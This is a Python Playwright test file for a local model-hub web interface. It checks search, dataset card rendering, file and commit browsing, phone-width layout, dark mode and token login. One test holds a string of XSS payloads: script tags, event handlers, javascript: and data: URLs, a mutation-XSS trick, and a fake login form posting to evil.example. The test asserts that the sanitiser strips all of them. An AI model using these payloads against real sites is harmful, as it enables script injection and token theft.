"""The pages in a real browser of a phone's width."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path
from typing import TYPE_CHECKING

import pyarrow as pa
import pytest
from huggingface_hub import CommitOperationAdd, HfApi
from pyarrow import parquet

from emojit.localhub import LocalHub

if TYPE_CHECKING:
    from playwright.sync_api import Page

PAIRS = "me/pages_pairs"
_CARD = Path(__file__).parents[1] / "release" / "golden" / "dataset.md"


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = b"".join(b"\0" + b"\xff\x80\x00" * 600 for _ in range(40))
    header = struct.pack(">IIBBBBB", 600, 40, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def _rows(split: str) -> bytes:
    table = pa.table(
        {
            "id": [f"{number:016x}" for number in range(30)],
            "sns_text": [f"{split}のお弁当、今日も最高だった" + "!" * 400] * 30,
            "emojis": [["🍱", "😋", "❤️"]] * 30,
        }
    )
    out = io.BytesIO()
    parquet.write_table(table, out)
    return out.getvalue()


def _commit(api: HfApi, repo: str, files: dict[str, bytes], type_: str = "model") -> None:
    operations = [CommitOperationAdd(path, content) for path, content in files.items()]
    api.create_commit(repo, operations, commit_message="Release v1", repo_type=type_)


@pytest.fixture(scope="module")
def pairs(hub: LocalHub, tokens) -> str:
    """A data set as emojit publishes it: the card of the golden files, three splits, a plot, a tag."""
    api = HfApi(endpoint=hub.endpoint, token=tokens.writer)
    api.create_repo(PAIRS, repo_type="dataset")
    card = _CARD.read_text(encoding="utf-8") + "\n![the distribution](plots/emoji.png)\n"
    files = {"README.md": card.encode(), "plots/emoji.png": _png(), "notes/long.txt": b"word " * 500}
    files |= {f"data/{split}-00000-of-00001.parquet": _rows(split) for split in ("train", "validation", "test")}
    _commit(api, PAIRS, files, "dataset")
    api.create_tag(PAIRS, tag="v1", repo_type="dataset")
    api.create_discussion(PAIRS, title="Which split?", description="| a | b |\n|-|-|\n| 1 | 2 |", repo_type="dataset")
    return PAIRS


def _is_narrow(page: Page) -> bool:
    return page.evaluate("document.scrollingElement.scrollWidth") <= 390


def test_a_visitor_finds_a_data_set_and_sees_what_is_in_it(page: Page, hub: LocalHub, pairs: str) -> None:
    page.goto(hub.endpoint)
    page.get_by_role("searchbox").fill("pages_p")
    page.keyboard.press("Enter")
    page.locator(".repos a.name").click()

    page.wait_for_url(f"**/datasets/{pairs}")
    assert page.url.endswith(f"/datasets/{pairs}")
    assert page.locator(".card h1").inner_text() == "Small pairs: 小さな対"
    assert page.locator(".card table").count() > 0
    assert page.locator(".card img").evaluate("image => image.decode().then(() => image.naturalWidth)") == 600
    assert f'load_dataset("{pairs}", revision="v1")' in page.locator(".snippet").inner_text()
    assert hub.endpoint in page.locator(".snippet").inner_text()
    assert "cc-by-sa-4.0" in page.locator(".facts").inner_text()
    assert page.locator(".rows tbody tr").count() == 20
    assert page.locator(".rows .items").first.locator("span").all_inner_texts() == ["🍱", "😋", "❤️"]
    assert page.locator(".rows td").nth(1).inner_text().startswith("trainのお弁当")
    assert page.locator(".rows td").nth(1).inner_text().endswith("…")

    page.get_by_role("link", name="validation", exact=True).click()

    assert page.locator(".rows td").nth(1).inner_text().startswith("validationのお弁当")
    assert _is_narrow(page)


def test_a_visitor_walks_through_files_tags_and_commits(page: Page, hub: LocalHub, pairs: str) -> None:
    page.goto(f"{hub.endpoint}/datasets/{pairs}")
    page.get_by_role("link", name="Files", exact=True).click()
    page.get_by_role("link", name="data", exact=False).first.click()
    page.get_by_role("link", name="train-00000-of-00001.parquet").click()
    page.locator(".rows tbody tr").first.wait_for()  # a click does not wait for the page it leads to
    assert page.locator(".rows tbody tr").count() == 20
    page.locator(".revisions summary").click()
    page.locator(".revisions").get_by_role("link", name="v1").click()
    page.wait_for_url("**/tree/v1")
    assert page.url.endswith("/tree/v1")
    page.get_by_role("link", name="Tags").click()
    page.locator(".lines .tag").first.wait_for()
    assert page.locator(".lines .tag").all_inner_texts() == ["v1"]
    page.get_by_role("link", name="Commits").click()
    page.get_by_role("link", name="Release v1").click()
    page.get_by_text("notes/long.txt").wait_for()

    assert page.get_by_text("notes/long.txt").is_visible()
    assert page.locator(".diff .plus").first.is_visible()


PATHS = [
    "",
    "/tree/main",
    "/tree/v1/data",
    "/blob/main/README.md",
    "/blob/main/README.md?plain=1",
    "/blob/main/notes/long.txt",
    "/blob/main/plots/emoji.png",
    "/blob/main/data/train-00000-of-00001.parquet",
    "/commits/main",
    "/commit/main",
    "/tags",
    "/discussions",
    "/discussions/1",
    "/blob/main/nothing",
]


def test_no_page_is_wider_than_a_phone(page: Page, hub: LocalHub, pairs: str) -> None:
    for address in ("/", "/me", "/login", *(f"/datasets/{pairs}{path}" for path in PATHS)):
        page.goto(hub.endpoint + address)

        assert _is_narrow(page), address


def test_pages_are_dark_where_the_visitor_likes_it_dark(page: Page, hub: LocalHub) -> None:
    grounds = []
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        page.goto(hub.endpoint)
        grounds.append(page.evaluate("getComputedStyle(document.body).backgroundColor"))

    assert grounds == ["rgb(247, 246, 243)", "rgb(19, 20, 22)"]


HOSTILE = """---
license: mit
---
# Harmless
<script>document.title = "run"; window.ran = 1</script>
<img src=x onerror="window.ran = 1"> <svg onload="window.ran = 1"></svg>
<iframe src="javascript:parent.ran = 1"></iframe><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/a.css">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">
<form action="https://evil.example/"><input name="token" autofocus onfocus="window.ran = 1"><button>Log in</button></form>
<div style="position: fixed; inset: 0; z-index: 9" onclick="window.ran = 1">over</div>
<a href="javascript:window.ran = 1" id="bad">one</a> <a href="java&#x09;script:window.ran = 1">two</a>
<object data="data:text/html,<script>parent.ran = 1</script>"></object><embed src="/x"><video src="https://evil.example/v" autoplay></video>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"></table></mtext></math>
<img srcset="https://evil.example/s.png" src="https://evil.example/t.png"> <picture><source srcset="https://evil.example/u.png"></picture>

[three](javascript:window.ran=1) [four](data:text/html;base64,PHNjcmlwdD4=) [five](vbscript:x) [six](//evil.example)
![tracker](https://evil.example/pixel.png) ![inline](data:image/svg+xml,<svg/onload=window.ran=1>)

"""


def test_nothing_in_a_hostile_card_runs_or_is_fetched(page: Page, hub: LocalHub, api: HfApi, model: str) -> None:
    # The fixture fails on scripts that fail and on every request that leaves the machine.
    _commit(api, model, {"README.md": (HOSTILE + "> " * 300 + "deep\n\n" + "- " * 300 + "end").encode()})

    page.goto(f"{hub.endpoint}/{model}")
    page.wait_for_timeout(300)

    assert page.locator(".card h1").inner_text() == "Harmless"
    assert page.title() != "run"
    assert page.evaluate("window.ran") is None
    forbidden = (
        "script, iframe, style, link, base, meta, form, input, button, object, embed, svg, video, [style], [onclick]"
    )
    assert page.locator(".card").locator(forbidden).count() == 0
    targets = page.locator(".card a[href]").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert all(target.startswith(("https://evil.example/pixel", "#", f"/{model}/")) for target in targets)
    assert page.get_by_role("link", name="tracker").count() == 1
    assert _is_narrow(page)


def test_a_token_opens_private_repositories_until_logging_out(
    page: Page, hub: LocalHub, api: HfApi, tokens, name: str
) -> None:
    api.create_repo(name, private=True)
    _commit(api, name, {"README.md": b"---\nlicense: mit\n---\n# Ours\n![plot](plot.png)", "plot.png": _png()})
    page.goto(f"{hub.endpoint}/{name}")
    assert page.locator("h1").inner_text() == "404"

    page.get_by_role("link", name="log in", exact=True).click()
    page.get_by_label("Token of this Hub").fill("hf_wrong")
    page.get_by_role("button", name="Log in").click()
    assert "does not know this token" in page.get_by_role("alert").inner_text()
    page.get_by_label("Token of this Hub").fill(tokens.reader)
    page.get_by_role("button", name="Log in").click()

    page.wait_for_url(f"{hub.endpoint}/{name}")
    assert page.url == f"{hub.endpoint}/{name}"
    assert page.locator(".card h1").inner_text() == "Ours"
    assert page.locator(".card img").evaluate("image => image.decode().then(() => image.naturalWidth)") == 600
    assert tokens.reader not in str(page.context.cookies())

    page.get_by_role("button", name="Log out").click()
    page.goto(f"{hub.endpoint}/{name}")

    assert page.locator("h1").inner_text() == "404"
